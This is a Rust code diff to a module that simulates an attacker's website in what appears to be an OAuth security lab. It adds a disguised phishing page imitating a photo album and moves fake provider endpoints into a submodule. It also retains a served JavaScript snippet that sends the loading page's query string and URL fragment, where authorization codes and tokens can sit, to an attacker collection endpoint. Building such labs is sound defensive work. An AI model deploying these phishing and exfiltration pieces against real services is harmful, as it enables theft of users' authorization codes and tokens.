@@ -1,25 +1,21 @@
 //! The attacker's site: it writes down everything that comes in, serves the page that an exploit
 //! prepares, and pretends to be a provider.
 
+mod provider;
+
 use std::collections::HashMap;
 use std::sync::{Arc, Mutex};
-use std::time::Duration;
 
 use askama::Template;
-use auth_core::jwks::JwkSet;
-use auth_core::jwt::{Algorithm, IdTokenClaims, JWT_TYPE, SigningKey};
-use auth_core::params::Params;
-use auth_core::secret::random_token;
+use auth_core::jwt::{Algorithm, SigningKey};
 use axum::Router;
 use axum::body::Bytes;
-use axum::extract::{RawQuery, State};
+use axum::extract::State;
 use axum::response::{IntoResponse, Response};
 use axum::routing::{any, get};
 use http::{HeaderMap, Method, StatusCode, Uri, header};
 use serde_json::json;
-use url::Url;
 
-use super::authorization_server::ALBUM;
 use super::{World, page};
 use crate::lock;
 
@@ -111,10 +107,11 @@ impl Store {
 pub(super) fn routes() -> Router<Arc<World>> {
     Router::new()
         .route("/page", get(page))
+        .route("/phish", get(phish).post(write_down))
         .route("/analytics.js", get(analytics))
-        .route("/authorize", get(authorize))
-        .route("/token", any(token))
-        .route("/jwks.json", get(jwks))
+        .route("/authorize", get(provider::authorize))
+        .route("/token", any(provider::token))
+        .route("/jwks.json", get(provider::jwks))
         .route("/log", get(log))
         .route("/", any(write_down))
         .route("/{*anything}", any(write_down))
@@ -147,6 +144,16 @@ async fn page(State(world): State<Arc<World>>) -> Response {
     page::page(StatusCode::OK, "Quiz night", &Prepared { inside })
 }
 
+/// A page that looks like the album's, down to the name at its top. The address bar alone says where it is.
+#[derive(Template)]
+#[template(path = "phish.html")]
+struct Phish;
+
+async fn phish(State(world): State<Arc<World>>, uri: Uri) -> Response {
+    world.live().attacker.write_down(&Method::GET, &uri, &Bytes::new());
+    page::disguised_page("Photo album", &world.urls.client, "client: the photo album", &Phish)
+}
+
 /// "Statistics": the whole address of the page that loads this, fragment and all.
 async fn analytics(State(world): State<Arc<World>>) -> Response {
     let collect = format!("{}/collect", world.urls.attacker);
@@ -154,58 +161,4 @@ async fn analytics(State(world): State<Arc<World>>) -> Response {
         "fetch('{collect}?' + location.search.slice(1) + '&' + location.hash.slice(1), {{ mode: 'no-cors' }});\n"
     );
     ([(header::CONTENT_TYPE, "text/javascript")], script).into_response()
-}
-
-/// The attacker's authorization endpoint: answers at once, or leads wherever the exploit wants.
-async fn authorize(State(world): State<Arc<World>>, RawQuery(query): RawQuery, uri: Uri) -> Response {
-    let live = world.live();
-    live.attacker.write_down(&Method::GET, &uri, &Bytes::new());
-    if let Some(elsewhere) = live.attacker.prepared("authorize") {
-        let original = query.unwrap_or_default();
-        return page::see_other(&elsewhere.replace("{query}", &original));
-    }
-    let params = Params::parse(query.unwrap_or_default().as_bytes()).unwrap_or_default();
-    params.get("nonce").unwrap_or_default().clone_into(&mut lock(&live.attacker.nonce));
-    let answer = [
-        ("code", "made-up"),
-        ("state", params.get("state").unwrap_or_default()),
-        ("iss", &world.urls.attacker),
-    ];
-    match Url::parse_with_params(params.get("redirect_uri").unwrap_or_default(), answer) {
-        Ok(url) => page::see_other(url.as_str()),
-        Err(_) => StatusCode::BAD_REQUEST.into_response(),
-    }
-}
-
-/// The attacker's token endpoint: what the exploit has prepared, or an honest answer.
-async fn token(State(world): State<Arc<World>>, method: Method, uri: Uri, body: Bytes) -> Response {
-    let live = world.live();
-    live.attacker.write_down(&method, &uri, &body);
-    if live.attacker.prepared("stall").is_some() {
-        tokio::time::sleep(Duration::from_secs(60)).await;
-    }
-    let nonce = lock(&live.attacker.nonce).clone();
-    if let Some(prepared) = live.attacker.prepared("token-response") {
-        return ([(header::CONTENT_TYPE, "application/json")], prepared.replace("{nonce}", &nonce))
-            .into_response();
-    }
-    let now = live.clock.now();
-    let claims = IdTokenClaims {
-        iss: world.urls.attacker.clone(),
-        sub: "quiz-player".to_owned(),
-        aud: ALBUM.into(),
-        exp: now + Duration::from_secs(600),
-        iat: now,
-        nonce: Some(nonce),
-        ..IdTokenClaims::default()
-    };
-    let id_token = live.attacker.key().and_then(|key| key.sign(JWT_TYPE, &claims).ok());
-    let body = json!({ "access_token": random_token(), "token_type": "Bearer", "id_token": id_token });
-    page::json(StatusCode::OK, &body)
-}
-
-async fn jwks(State(world): State<Arc<World>>) -> Response {
-    let key = world.live().attacker.key().and_then(|key| key.public_jwk());
-    let set = JwkSet { keys: key.into_iter().collect() };
-    page::json(StatusCode::OK, &serde_json::to_value(&set).unwrap_or_default())
 }
